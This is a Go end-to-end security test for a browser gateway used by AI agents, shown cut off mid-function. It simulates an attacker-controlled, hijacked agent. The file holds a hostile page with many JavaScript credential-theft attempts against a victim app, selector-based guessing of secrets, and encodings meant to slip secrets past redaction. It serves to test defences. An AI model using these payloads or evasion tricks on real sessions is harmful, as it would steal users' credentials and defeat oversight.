package e2e

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/gloveboxhq/glovebox/internal/fault"
)

// What opens the account of the victim. No four letters of them are in the pages
// but where they are shown, nor in what the gateway says.
const (
	hijackedCookie   = "Vq7zLm2XtG9wJk4RsY8vPh3ZnU6yQj5KxT1bWd0F"
	hijackedToken    = "eyKzWq8Jx2.Gv5Yt7Qm9Zk3Xp1Lw6Rj4Hs0.Nu8Vy2Tz7Kq5Wx3Jm"
	hijackedHeader   = "Zx4-Kq9Wv2Ym7Jt5Gp8Ls3Rh6"
	hijackedPassword = "Wz5!kYq8Xv3"
)

var hijackedSecrets = []string{hijackedCookie, hijackedToken, hijackedHeader, hijackedPassword}

// victim is an application that shows what opens it to whoever is signed in, in
// many places, and that shows what it is sent, as applications do.
func victim() http.Handler {
	mux := http.NewServeMux()
	page := func(path, title, body string) {
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = fmt.Fprintf(w, "<!doctype html><title>%s</title>%s", title, body)
		})
	}
	page("/app", "App", `<h1>Account</h1><label>Search <input id=q></label><label>Note <textarea id=n></textarea></label>
<label>File <input id=f type=file></label><button type=button id=ask onclick="document.title = prompt('Name?') || ''">Show name</button>
<p id=mirror></p><ul id=list></ul><p id=seen>beacon-of-app</p>
<script>
const t = localStorage.jwt || ''
for (const e of [q, n]) e.oninput = () => { mirror.textContent = e.value; mirror.title = e.value; document.title = 'App ' + e.value; console.log(e.value)
  mirror.setAttribute('aria-label', [...e.value].reverse().join('')); list.innerHTML = ''; for (const c of e.value) { const i = document.createElement('li'); i.textContent = c; list.append(i) } }
f.onchange = async () => { mirror.textContent = await f.files[0].text() }
</script>
<form hidden><input id=csrf type=hidden></form><meta id=meta><div id=data></div>
<script>csrf.setAttribute('value', t); meta.content = t; data.dataset.token = t; data.className = 't-' + t</script>`)
	page("/keys", "Keys", `<h1>beacon-of-keys</h1><p id=plain></p><ul id=letters></ul><p id=attr></p><input id=field><details open><summary>Key</summary><code id=code></code></details>
<select id=options></select><a id=link>go</a><button type=button id=button>press</button><svg viewBox="0 0 900 20"><text y=15 id=drawn></text></svg><p id=parts></p><p id=encoded></p><table><tr id=row></tr></table>
<style>#generated::before { content: attr(data-k) }</style><p id=generated></p><div id=deep></div><iframe id=inner></iframe><img id=image>
<script>
const t = localStorage.jwt || ''
plain.textContent = t; attr.title = t; attr.setAttribute('aria-label', t); field.value = t; field.placeholder = t; code.textContent = 'key: ' + t
for (const c of t) letters.append(Object.assign(document.createElement('li'), {textContent: c}))
options.append(new Option(t, t)); link.href = '/go/' + t; link.textContent = 'with ' + t; button.textContent = t; drawn.textContent = t
for (const c of t.match(/.{1,5}/g) || []) parts.append(Object.assign(document.createElement('b'), {textContent: c}))
encoded.textContent = [btoa(t), encodeURIComponent(t), [...t].reverse().join(''), [...t].join(' '), [...t].join('\u200d'), t.toUpperCase(), [...t].map(c => c.charCodeAt(0).toString(16)).join('')].join(' ; ')
for (const c of t.match(/.{1,9}/g) || []) row.append(Object.assign(document.createElement('td'), {textContent: c}))
generated.dataset.k = t; deep.attachShadow({mode: 'closed'}).innerHTML = '<p>' + t + '</p>'; inner.srcdoc = '<p>' + t + '</p>'; image.alt = t; document.title = 'Keys ' + t
console.log(t); console.error(new Error(t)); history.replaceState(null, '', '/keys?k=' + t); fetch('/gone/' + t); fetch('/deed', {method: 'POST', body: 'k=' + t}); setTimeout(() => { throw new Error(t) })
</script>`)
	mux.HandleFunc("/echo", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		cookie, _ := r.Cookie("sid")
		value := ""
		if cookie != nil {
			value = cookie.Value
		}
		_, _ = fmt.Fprintf(w, "<!doctype html><title>Echo</title><h1>beacon-of-echo</h1><p>%s</p><p>%s</p><p>%s</p>", html.EscapeString(r.FormValue("q")), value, r.Header.Get("X-Api-Key"))
	})
	mux.HandleFunc("/deed", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusCreated) })
	mux.HandleFunc("/leave", func(w http.ResponseWriter, r *http.Request) {
		cookie, _ := r.Cookie("sid")
		if cookie != nil {
			http.Redirect(w, r, r.FormValue("to")+"?k="+cookie.Value, http.StatusFound)
		}
	})
	mux.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
		cookie, _ := r.Cookie("sid")
		if cookie != nil {
			w.Header().Set("Content-Disposition", `attachment; filename="`+cookie.Value+`.txt"`)
			_, _ = fmt.Fprint(w, cookie.Value)
		}
	})
	return mux
}

// hostile is what an attacker serves on a host of its own that is allowed too.
func hostile(victim string) http.Handler {
	tries := map[string]string{
		"fetch":       `fetch(V + '/echo', {credentials: 'include'}).then(r => r.text()).then(say, say)`,
		"nocors":      `fetch(V + '/echo', {credentials: 'include', mode: 'no-cors'}).then(r => r.text()).then(say, say)`,
		"xhr":         `(() => { const x = new XMLHttpRequest; x.withCredentials = true; x.open('GET', V + '/echo'); x.onloadend = () => say(x.responseText + x.getAllResponseHeaders()); x.send() })()`,
		"sync":        `(() => { try { const x = new XMLHttpRequest; x.withCredentials = true; x.open('GET', V + '/echo', false); x.send(); say(x.responseText) } catch (e) { say(e) } })()`,
		"script":      `document.head.append(Object.assign(document.createElement('script'), {src: V + '/echo', onerror: say}))`,
		"style":       `document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: V + '/echo'}))`,
		"image":       `(() => { const i = new Image; i.onload = i.onerror = e => say(i.width + ' ' + e.type); i.src = V + '/file' })()`,
		"frame":       `(() => { const f = document.createElement('iframe'); f.src = V + '/keys'; f.onload = () => { try { say(f.contentDocument.body.innerText) } catch (e) { say(e) } }; document.body.append(f) })()`,
		"frameecho":   `(() => { const f = document.createElement('iframe'); f.src = V + '/echo?q=x'; f.onload = () => { try { say(f.contentWindow.name + f.contentWindow.length) } catch (e) { say(e) } }; document.body.append(f) })()`,
		"frames":      `(() => { const f = document.createElement('iframe'); f.src = V + '/keys'; f.onload = () => { try { say(f.contentWindow.frames.length + f.contentWindow.location.href) } catch (e) { say(e) } }; document.body.append(f) })()`,
		"sandbox":     `(() => { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-same-origin'; f.src = V + '/keys'; document.body.append(f); setTimeout(() => say('later'), 300) })()`,
		"object":      `document.body.append(Object.assign(document.createElement('object'), {data: V + '/keys'}))`,
		"embed":       `document.body.append(Object.assign(document.createElement('embed'), {src: V + '/keys'}))`,
		"popup":       `(() => { const w = open(V + '/keys'); setTimeout(() => { try { say(w.document.title) } catch (e) { say(e) } }, 300) })()`,
		"message":     `(() => { addEventListener('message', e => say(e.data)); const f = document.createElement('iframe'); f.src = V + '/keys'; f.onload = () => f.contentWindow.postMessage('secret?', '*'); document.body.append(f) })()`,
		"storage":     `say(JSON.stringify(localStorage) + document.cookie)`,
		"performance": `fetch(V + '/leave?to=' + location.origin + '/x', {credentials: 'include', mode: 'no-cors'}).finally(() => say(performance.getEntries().map(e => e.name).join(' ')))`,
		"redirect":    `location = V + '/leave?to=' + location.origin + '/landed'`,
		"form":        `(() => { const f = document.createElement('form'); f.method = 'post'; f.action = V + '/echo'; f.innerHTML = '<input name=q value=x>'; document.body.append(f); f.submit() })()`,
		"formget":     `(() => { const f = document.createElement('form'); f.action = V + '/echo'; f.innerHTML = '<input name=q value=x>'; document.body.append(f); f.submit() })()`,
		"download":    `(() => { const a = document.createElement('a'); a.href = V + '/file'; a.download = 'x'; document.body.append(a); a.click() })()`,
		"worker":      `new Worker(URL.createObjectURL(new Blob(["fetch('" + V + "/echo', {credentials: 'include'}).then(r => r.text()).then(postMessage, e => postMessage('' + e))"]))).onmessage = e => say(e.data)`,
		"socket":      `(() => { const s = new WebSocket(V.replace('http', 'ws') + '/echo'); s.onclose = e => say(e.code + e.reason) })()`,
		"events":      `(() => { const s = new EventSource(V + '/echo', {withCredentials: true}); s.onerror = e => { s.close(); say('error') } })()`,
		"manifest":    `document.head.append(Object.assign(document.createElement('link'), {rel: 'manifest', href: V + '/echo', crossOrigin: 'use-credentials'}))`,
		"canvas":      `(() => { const i = new Image; i.crossOrigin = 'use-credentials'; i.onload = i.onerror = e => say(e.type); i.src = V + '/file' })()`,
		"history":     `(() => { history.pushState(null, '', '/x'); say(history.length + location.href) })()`,
		"referrer":    `say(document.referrer)`,
		"navigate":    `location = V + '/keys'`,
	}
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		quoted, _ := json.Marshal(victim)
		_, _ = fmt.Fprintf(w, "<!doctype html><title>Hostile</title><h1>beacon-of-hostile</h1><p>%s</p><pre id=out></pre><script>const V = %s, say = x => { out.textContent += x + '\\n'; console.log(x); document.title = 'Hostile ' + x };\n%s</script>",
			html.EscapeString(r.URL.RawQuery), quoted, tries[strings.TrimPrefix(r.URL.Path, "/try/")])
	})
}

var hostileTries = strings.Fields(`fetch nocors xhr sync script style image frame frameecho frames sandbox object embed popup message storage performance redirect form formget
	download worker socket events manifest canvas history referrer navigate`)

// hijacked is an agent that does what an attacker tells it, in a session that is
// signed in to the victim.
type hijacked struct {
	*gateway
	victim, hostile string
	session         string
	probes          int // in this session
	mu              sync.Mutex
	tries           map[string]int
}

// TestAHijackedAgentLearnsNothing tries what an agent's token and a page of an
// attacker's own can, and wants no four letters of a secret in any answer, and no
// answer that tells a right guess from a wrong one without pausing the session.
func TestAHijackedAgentLearnsNothing(t *testing.T) {
	t.Parallel()
	v := httptest.NewServer(victim())
	t.Cleanup(func() { v.CloseClientConnections(); v.Close() })
	_, port, _ := net.SplitHostPort(v.Listener.Addr().String())
	h := &hijacked{victim: "http://localhost:" + port, tries: map[string]int{}}
	a := httptest.NewServer(hostile(h.victim))
	t.Cleanup(func() { a.CloseClientConnections(); a.Close() })
	h.hostile = a.URL
	h.gateway = prepare(t, settings{
		warmPool: 1,
		security: "max_actions_per_session: -1\n  max_failures: -1\n  session_timeout: -1",
		env: []string{"GLOVEBOX_SECURITY_NETWORK_ALLOW_PRIVATE=localhost:" + port + "," + strings.TrimPrefix(h.hostile, "http://"),
			"GLOVEBOX_SECURITY_HITL_TRUSTED_DOMAINS=localhost,127.0.0.1"},
	})
	document, _ := json.Marshal(object{
		"origin": h.victim, "cookies": []object{{"name": "sid", "value": hijackedCookie, "path": "/", "httpOnly": true, "sameSite": "Lax"}},
		"localStorage": object{"jwt": hijackedToken}, "headers": object{"X-Api-Key": hijackedHeader}, "login": object{"username": "ada", "password": hijackedPassword},
	})
	file := filepath.Join(t.TempDir(), "credentials.json")
	if err := os.WriteFile(file, document, 0o600); err != nil {
		t.Fatal(err)
	}
	if out, complaint, status := h.command(t, "vault", "set", "localhost", "--file", file); status != 0 {
		t.Fatalf("vault set: %d\n%s%s", status, out, complaint)
	}
	for _, form := range []string{"plain", "reversed", "base64", "hex", "percent", "entities", "spaced", "lines"} {
		if len(shown([]byte("x "+disguises[form](hijackedCookie)+" y"))) == 0 {
			t.Errorf("%s: a secret would not be found in an answer", form)
		}
	}
	h.run()
	type part struct {
		name string
		run  func(*hijacked, *testing.T)
	}
	beside := []part{{"Reads", (*hijacked).reads}, {"HostilePage", (*hijacked).fromOwnPage}, {"Guesses", (*hijacked).guesses}, {"Refused", (*hijacked).refused}}
	count := func(own *hijacked) {
		h.mu.Lock()
		defer h.mu.Unlock()
		for kind, n := range own.tries {
			h.tries[kind] += n
		}
	}
	inSession := func(t *testing.T, p part) {
		own := &hijacked{gateway: h.gateway, victim: h.victim, hostile: h.hostile, tries: map[string]int{}}
		defer count(own)
		p.run(own, t)
	}
	t.Run("beside", func(t *testing.T) {
		for _, p := range beside {
			t.Run(p.name, func(t *testing.T) {
				t.Parallel()
				inSession(t, p)
			})
		}
	})
	for _, p := range []part{{"Caught", (*hijacked).caught}, {"Tools", (*hijacked).tools}} { // a caller that is held is so in all its sessions
		t.Run(p.name, func(t *testing.T) { inSession(t, p) })
	}
	total := 0
	for _, n := range h.tries {
		total += n
	}
	t.Logf("%d tries: %v", total, h.tries)
	if total < 200 {
		t.Errorf("%d tries", total)
	}
}

func (h *hijacked) fresh(t *testing.T) {
	t.Helper()
	if h.session != "" {
		h.curl(t, "operator").post("/v1/sessions/"+h.session+"/close", "")
	}
	h.session, h.probes = h.curl(t, "agent").open(fmt.Sprintf(`{"url": %q}`, h.victim+"/app")), 0
}

func (h *hijacked) at(path string) string { return "/v1/sessions/" + h.session + "/browser" + path }

func (h *hijacked) goTo(t *testing.T, address string) answer {
	t.Helper()
	return h.curl(t, "agent").post(h.at("/navigate"), fmt.Sprintf(`{"url": %q}`, address))
}

// hijackedWindows are the parts of secrets that must not be shown, and how they may be
// written.
var hijackedWindows = func() map[string]string {
	all := map[string]string{}
	for _, s := range hijackedSecrets {
		for at := 0; at+4 <= len(s); at++ {
			all[s[at:at+4]] = s[at : at+4]
		}
	}
	return all
}()

var (
	hijackedSpaces = regexp.MustCompile(`[\s\x{200b}-\x{200d},;|"']+`)
	hijackedRuns   = regexp.MustCompile(`[A-Za-z0-9+/_-]{12,}={0,2}`)
	hijackedDigits = regexp.MustCompile(`[0-9a-fA-F]{16,}`)
)

// shown are the parts of secrets in an answer, in any of the ways that are looked
// for, without what the agent has sent itself.
func shown(body []byte, sent ...string) []string {
	text := string(body)
	for _, s := range sent {
		if len(s) > 3 {
			text = strings.ReplaceAll(text, s, "")
		}
	}
	forms := []string{text, html.UnescapeString(text)}
	if plain, err := url.QueryUnescape(text); err == nil {
		forms = append(forms, plain)
	}
	for _, word := range hijackedRuns.FindAllString(text, 2000) {
		if b, err := base64.RawStdEncoding.DecodeString(strings.TrimRight(word, "=")); err == nil {
			forms = append(forms, string(b))
		}
	}
	for _, word := range hijackedDigits.FindAllString(text, 2000) {
		if b, err := hex.DecodeString(word[:len(word)&^1]); err == nil {
			forms = append(forms, string(b))
		}
	}
	var found []string
	for _, form := range forms {
		if len(form) > 1<<20 {
			form = form[:1<<20]
		}
		turned := []byte(form)
		slices.Reverse(turned)
		for _, f := range []string{form, string(turned)} {
			for window := range hijackedWindows {
				if strings.Contains(f, window) {
					found = append(found, window)
				}
			}
		}
	}
	apart := hijackedSpaces.ReplaceAllString(text, "")
	for _, s := range hijackedSecrets {
		for at := 0; at+8 <= len(s); at++ {
			if strings.Contains(apart, s[at:at+8]) {
				found = append(found, s[at:at+8])
			}
		}
	}
	return found
}

// clean counts a try, and wants nothing of a secret in its answer.
func (h *hijacked) clean(t *testing.T, kind string, a answer, sent ...string) {
	t.Helper()
	h.tries[kind]++
	if strings.HasPrefix(a.header.Get("Content-Type"), "image/") {
		return
	}
	body := a.body
	if strings.Contains(a.what, "screenshot") || strings.Contains(a.what, "pdf") {
		body = regexp.MustCompile(`"(data|image|bytes|content)": ?"[^"]*"`).ReplaceAll(body, nil)
	}
	if found := shown(body, sent...); len(found) > 0 {
		slices.Sort(found)
		at := strings.Index(string(body), found[0])
		t.Errorf("%s shows %q: %.1500s", a.what, slices.Compact(found), body[max(0, at-300):])
	}
}

type probe struct{ method, path, body string }

var looks = []probe{
	{"GET", "/snapshot", ""}, {"GET", "/snapshot?filter=interactive", ""}, {"GET", "/snapshot?budget=400", ""}, {"GET", "/markdown", ""}, {"POST", "/extract", `{}`}, {"GET", "/links", ""},
	{"GET", "/find?text=beacon", ""}, {"GET", "/find?regex=.", ""}, {"GET", "/find?regex=%5BA-Za-z0-9%5D%7B4,%7D", ""}, {"GET", "/find?role=button", ""}, {"GET", "/find?role=link", ""},
	{"POST", "/scrape", `{"selectors": {"x": "p", "y": "li", "z": "td"}}`}, {"POST", "/scrape", `{"selectors": {"x": "a@href", "y": "#attr@title", "z": "input@placeholder"}}`}, {"POST", "/scrape", `{"selectors": {"x": "img@alt", "y": "option", "z": "b"}}`},
	{"GET", "/console", ""}, {"GET", "/console?level=error", ""}, {"GET", "/network", ""}, {"GET", "/network?urlPattern=gone", ""}, {"GET", "/tabs", ""}, {"GET", "/status", ""}, {"GET", "/screenshot?labels=true", ""},
	{"GET", "/pdf", ""}, {"GET", "/downloads", ""}, {"POST", "/hover", `{"selector": "#link"}`}, {"POST", "/click", `{"selector": "#button"}`}, {"POST", "/select", `{"selector": "#options", "values": ["x"]}`},
	{"POST", "/press", `{"selector": "#field", "key": "Control+a"}`}, {"POST", "/press", `{"selector": "#field", "key": "Control+c"}`}, {"POST", "/type", `{"selector": "#field", "text": "x"}`}, {"POST", "/scroll", `{"y": 100}`},
	{"POST", "/drag", `{"from": {"selector": "#field"}, "to": {"selector": "#link"}}`}, {"POST", "/batch", `{"steps": [{"verb": "page.snapshot"}, {"verb": "page.find", "args": {"text": "key"}}]}`},
	{"POST", "/click", `{"selector": "#nothing", "timeout": 200}`}, {"POST", "/reload", ""}, {"POST", "/back", ""}, {"POST", "/forward", ""}, {"GET", "/snapshot?diff=true", ""},
}

// reads looks at pages of the victim that show what opens it, in every way there is.
func (h *hijacked) reads(t *testing.T) {
	for _, page := range []string{"/keys", "/echo?q=x", "/file"} {
		h.fresh(t)
		h.clean(t, "reads", h.goTo(t, h.victim+page))
		for _, p := range looks {
			if page != "/keys" && p.method != http.MethodGet {
				continue // of elements that it does not have
			}
			h.clean(t, "reads", h.curl(t, "agent").do(p.method, h.at(p.path), p.body))
		}
	}
	if live := h.goTo(t, h.victim+"/echo?q=x"); live.status != http.StatusOK || !strings.Contains(string(h.curl(t, "agent").get(h.at("/snapshot")).body), "beacon-of-echo") {
		t.Error("nothing of the page is shown at all")
	}
	told := h.curl(t, "agent").get(h.at("/snapshot")).body
	if !strings.Contains(string(told), "[redacted]") {
		t.Errorf("the page was not shown a cookie: %s", told)
	}
	h.clean(t, "reads", h.curl(t, "agent").post("/v1/browser/crawl", fmt.Sprintf(`{"url": %q, "maxPages": 3}`, h.victim+"/echo?q=x")))
	h.clean(t, "reads", h.curl(t, "agent").get("/v1/sessions/"+h.session))
	h.clean(t, "reads", h.curl(t, "agent").get("/v1/sessions/"+h.session+"/artifacts"))
	h.clean(t, "reads", h.curl(t, "agent").get("/v1/sessions"))
}

// fromOwnPage has a page of the attacker's reach for the victim, and looks at it.
func (h *hijacked) fromOwnPage(t *testing.T) {
	h.fresh(t)
	for _, name := range hostileTries {
		h.clean(t, "own page", h.curl(t, "agent").post(h.at("/navigate"), fmt.Sprintf(`{"url": %q, "waitUntil": "domcontentloaded"}`, h.hostile+"/try/"+name)))
		<-time.After(50 * time.Millisecond) // for what it does by itself
		for _, p := range []probe{{"GET", "/snapshot", ""}, {"GET", "/console", ""}} {
			h.clean(t, "own page", h.curl(t, "agent").do(p.method, h.at(p.path), p.body))
		}
	}
}

// told is an answer without what is its own in any case.
func (h *hijacked) told(t *testing.T, p probe, text string) (string, answer) {
	t.Helper()
	fill := func(s string, escape func(string) string) string { return strings.ReplaceAll(s, "ASKED", escape(text)) }
	quoted := func(s string) string { b, _ := json.Marshal(s); return strings.Trim(string(b), `"`) }
	a := h.curl(t, "agent").do(p.method, h.at(fill(p.path, url.QueryEscape)), fill(p.body, quoted))
	if strings.HasPrefix(a.header.Get("Content-Type"), "image/") {
		return fmt.Sprintf("%d a picture", a.status), a
	}
	out := passing.ReplaceAllString(string(a.body), "")
	out = regexp.MustCompile(`/upload/[0-9a-f]+`).ReplaceAllString(out, "/upload/N")
	out = regexp.MustCompile(`\be[0-9]+\b`).ReplaceAllString(out, "eN")
	out = regexp.MustCompile(`"(data|image|bytes|tokens|width|height|size)": ?("[^"]*"|[0-9]+),?`).ReplaceAllString(out, "")
	for _, s := range []string{text, url.QueryEscape(text), base64.StdEncoding.EncodeToString([]byte(text))} {
		out = strings.ReplaceAll(out, s, "ASKED")
	}
	turned := []byte(text)
	slices.Reverse(turned)
	out = strings.ReplaceAll(out, string(turned), "DEKSA")
	for _, c := range text {
		out = strings.ReplaceAll(out, fmt.Sprintf(`text \"%c\"`, c), `text LETTER`)
		out = strings.ReplaceAll(out, fmt.Sprintf(`listitem \"%c\"`, c), `listitem LETTER`)
	}
	return fmt.Sprintf("%d %s", a.status, out), a
}

// asks are ways to have a text compared with what a page of the victim has, and to
// read off the answer whether it is right.
var asks = []probe{
	{"POST", "/type", `{"selector": "#q", "text": "ASKED", "clear": true}`}, {"POST", "/type", `{"selector": "#n", "text": "ASKED", "clear": true}`},
	{"POST", "/wait", `{"text": "ASKED", "timeout": 150}`}, {"POST", "/wait", `{"textGone": "ASKED", "timeout": 150}`}, {"POST", "/wait", `{"url": "ASKED", "timeout": 150}`},
	{"GET", "/find?text=ASKED", ""}, {"GET", "/find?regex=%5EASKED", ""}, {"GET", "/find?name=ASKED", ""}, {"GET", "/network?urlPattern=ASKED", ""}, {"GET", "/find?regex=ASKED.*", ""},
	{"POST", "/wait", `{"selector": "#csrf[value^='ASKED']", "state": "attached", "timeout": 150}`}, {"POST", "/wait", `{"selector": "meta[content*='ASKED']", "state": "attached", "timeout": 150}`},
	{"POST", "/wait", `{"selector": "#data[class*='t-ASKED']", "state": "attached", "timeout": 150}`}, {"POST", "/wait", `{"selector": "html:has([data-token^='ASKED'])", "state": "attached", "timeout": 150}`},
	{"POST", "/wait", `{"selector": "[id=data][class~='t-ASKED']", "state": "detached", "timeout": 150}`}, {"POST", "/wait", `{"selector": ".t-ASKED", "state": "attached", "timeout": 150}`},
	{"POST", "/hover", `{"text": "ASKED", "timeout": 150}`}, {"POST", "/scroll", `{"text": "ASKED", "y": 1, "timeout": 150}`}, {"POST", "/hover", `{"role": "textbox", "name": "ASKED", "timeout": 150}`},
	{"POST", "/scrape", `{"selectors": {"x": "#csrf[value^='ASKED']@id"}}`}, {"POST", "/scrape", `{"selectors": {"x": "p:contains('ASKED')"}}`}, {"GET", "/screenshot?selector=" + url.QueryEscape("[data-token^='ASKED']"), ""},
	{"POST", "/navigate", `{"url": "VICTIM/echo?q=ASKED"}`}, {"POST", "/navigate", `{"url": "VICTIM/ASKED"}`}, {"POST", "/navigate", `{"url": "HOSTILE/try/none?ASKED"}`}, {"POST", "/navigate", `{"url": "VICTIM/app#ASKED"}`},
	{"POST", "/upload", `{"selector": "#f", "files": [{"name": "ASKED.txt", "bytes": "eA=="}]}`},
	{"POST", "/batch", `{"steps": [{"verb": "page.type", "args": {"selector": "#q", "text": "ASKED", "clear": true}}, {"verb": "page.snapshot"}]}`},
	{"POST", "/press", `{"selector": "#q", "key": "ASKED"}`}, {"POST", "/select", `{"selector": "#q", "values": ["ASKED"]}`}, {"POST", "/dialog", `{"accept": true, "text": "ASKED"}`},
	{"POST", "/execute", `{"expression": "document.title == 'ASKED'"}`}, {"POST", "/fill-secret", `{"selector": "#q", "secret": "ASKED"}`}, {"POST", "/crawl", `{"url": "VICTIM/echo?q=ASKED", "maxPages": 1}`},
	{"GET", "/downloads/ASKED", ""}, {"POST", "/tabs", `{"url": "VICTIM/echo?q=ASKED"}`},
}

// guesses puts each question with a right beginning and with a wrong one, of as
// many letters as redaction leaves standing, and looks at the page afterwards.
func (h *hijacked) guesses(t *testing.T) {
	for _, secret := range []struct{ name, text string }{{"token", strings.ReplaceAll(hijackedToken, ".", "")}, {"cookie", hijackedCookie}} {
		for _, letters := range map[string][]int{"token": {15}, "cookie": {5}}[secret.name] {
			right := secret.text[:letters]
			wrong := right[:letters-1] + map[bool]string{true: "0", false: "1"}[right[letters-1] != '0']
			h.fresh(t)
			for _, p := range asks {
				p.body = strings.NewReplacer("VICTIM", h.victim, "HOSTILE", h.hostile).Replace(p.body)
				if h.probes++; h.probes > 10 {
					h.fresh(t)
				}
				var said [2]string
				for i, text := range []string{right, wrong} {
					h.goTo(t, h.victim+"/app")
					first, a := h.told(t, p, text)
					h.clean(t, "guesses", a, right, wrong, hijackedToken[:letters+1])
					said[i] = first
					if p.method == http.MethodPost && p.path != "/wait" { // it may have changed the page
						then, b := h.told(t, probe{"GET", "/snapshot", ""}, text)
						h.clean(t, "guesses", b, right, wrong, hijackedToken[:letters+1], reversed(right))
						said[i] += "\n" + then
					}
				}
				if said[0] != said[1] {
					t.Errorf("%d letters of the %s can be asked for by %s %s %s:\n%.700s\n---\n%.700s", letters, secret.name, p.method, p.path, p.body, said[0], said[1])
				}
			}
		}
	}
}

func reversed(text string) string {
	b := []byte(text)
	slices.Reverse(b)
	return string(b)
}

// disguises are the ways in which a guess may be written.
var disguises = map[string]func(string) string{
	"plain": func(s string) string { return s }, "upper": strings.ToUpper, "lower": strings.ToLower, "reversed": reversed,
	"base64":  func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
	"base64u": func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte("x" + s)) },
	"hex":     func(s string) string { return hex.EncodeToString([]byte(s)) },
	"percent": func(s string) string {
		out := ""
		for _, c := range []byte(s) {
			out += fmt.Sprintf("%%%02X", c)
		}
		return out
	},
	"entities": func(s string) string {
		out := ""
		for _, c := range s {
			out += fmt.Sprintf("&#%d;", c)
		}
		return out
	},
	"escapes": func(s string) string {
		out := ""
		for _, c := range s {
			out += fmt.Sprintf(`\u%04x`, c)
		}
		return out
	},
	"spaced": func(s string) string { return strings.Join(strings.Split(s, ""), " ") },
	"joined": func(s string) string { return strings.Join(strings.Split(s, ""), "\u200d") },
	"dashed": func(s string) string { return strings.Join(strings.Split(s, ""), "-") },
	"lines":  func(s string) string { return strings.Join(strings.Split(s, ""), "\n") },
	"wide": func(s string) string {
		out := ""
		for _, c := range s {
			out += string(c - '!' + '！')
		}
		return out
	},
	"tags":   func(s string) string { return strings.Join(strings.Split(s, ""), "</b><b>") },
	"inside": func(s string) string { return "aaaa" + s + "bbbb" },
}

// caught sends what redaction would hide, in each disguise and by each argument:
// whatever comes of it, the session is paused, and right and wrong guesses are
// refused alike from then on.
func (h *hijacked) caught(t *testing.T) {
	h.fresh(t)
	guess := hijackedCookie[:17]
	sends := func(name string, send func() answer) {
		h.goTo(t, h.victim+"/app")
		a := send()
		h.clean(t, "caught", a, guess)
		var problem struct{ Code string }
		if json.Unmarshal(a.body, &problem) != nil || problem.Code != string(fault.CredentialDetected) {
			t.Errorf("%s: not caught: %d %.300s", name, a.status, a.body)
			return
		}
		_, right := h.told(t, probe{"POST", "/type", `{"selector": "#q", "text": "ASKED"}`}, hijackedCookie[17:30])
		_, wrong := h.told(t, probe{"POST", "/type", `{"selector": "#q", "text": "ASKED"}`}, "nothing of it")
		strip := func(a answer) string { return passing.ReplaceAllString(string(a.body), "") }
		if strip(right) != strip(wrong) {
			t.Errorf("%s: right %s, wrong %s", name, right.body, wrong.body)
		}
		h.curl(t, "operator").post("/v1/sessions/"+h.session+"/resume", `{"note": "go on"}`).object(http.StatusOK)
	}
	for name, disguise := range disguises {
		sends("typed "+name, func() answer {
			_, a := h.told(t, probe{"POST", "/type", `{"selector": "#n", "text": "ASKED", "clear": true}`}, disguise(guess))
			return a
		})
	}
	for _, p := range asks {
		if strings.Contains(p.path, "/downloads/") {
			continue // no such address
		}
		p.body = strings.NewReplacer("VICTIM", h.victim, "HOSTILE", h.hostile).Replace(p.body)
		if strings.Contains(p.body, "contains(") || p.path == "/press" || p.path == "/crawl" {
			continue // not read at all, or of no session
		}
		sends(p.path+p.body, func() answer { _, a := h.told(t, p, guess); return a })
	}
	sends("content of a file", func() answer {
		_, a := h.told(t, probe{"POST", "/upload", `{"selector": "#f", "files": [{"name": "a.txt", "bytes": "ASKED"}]}`}, base64.StdEncoding.EncodeToString([]byte(guess)))
		return a
	})
	sends("two calls", func() answer {
		h.told(t, probe{"POST", "/type", `{"selector": "#n", "text": "ASKED", "clear": true}`}, guess[:9])
		_, a := h.told(t, probe{"POST", "/type", `{"selector": "#n", "text": "ASKED"}`}, guess[9:])
		return a
	})
	sends("two fields", func() answer {
		h.told(t, probe{"POST", "/type", `{"selector": "#q", "text": "ASKED", "clear": true}`}, guess[:9])
		_, a := h.told(t, probe{"POST", "/type", `{"selector": "#n", "text": "ASKED", "clear": true}`}, guess[9:])
		return a
	})
	sends("a name", func() answer {
		return h.curl(t, "agent").post("/v1/sessions", fmt.Sprintf(`{"name": %q}`, strings.ToLower(guess)))
	})
	sends("a reason", func() answer {
		return h.curl(t, "agent").post("/v1/sessions/"+h.session+"/request-human", fmt.Sprintf(`{"reason": %q}`, guess), "Prefer: wait=0")
	})
}

// refused asks for all that is not an agent's to have.
func (h *hijacked) refused(t *testing.T) {
	h.fresh(t)
	h.goTo(t, h.victim+"/keys")
	for _, p := range []probe{
		{"GET", "/cookies", ""}, {"GET", "/content", ""}, {"GET", "/har", ""}, {"GET", "/har?headers=true", ""}, {"GET", "/network?headers=true", ""}, {"GET", "/cdp", ""},
		{"POST", "/execute", `{"expression": "document.cookie"}`}, {"POST", "/execute", `{"expression": "localStorage.jwt"}`}, {"POST", "/capture", `{"domain": "localhost"}`}, {"GET", "/contexts", ""},
		{"POST", "/fill-secret", `{"selector": "#field", "secret": "password"}`}, {"POST", "/cookies", `{"cookies": [{"name": "sid", "value": "x", "url": "http://localhost/"}]}`},
	} {
		a := h.curl(t, "agent").do(p.method, h.at(p.path), p.body, "Prefer: wait=0")
		h.clean(t, "refused", a)
		if a.status == http.StatusOK && p.path != "/contexts" {
			t.Errorf("%s is an agent's: %.300s", a.what, a.body)
		}
	}
	for _, path := range strings.Fields("/v1/approvals /v1/audit /v1/audit/export /v1/audit/verify /v1/tokens /v1/events /v1/policy /v1/capability /v1/runs /v1/whoami /v1/health /v1/sessions/" + h.session + "/grants") {
		if path == "/v1/events" {
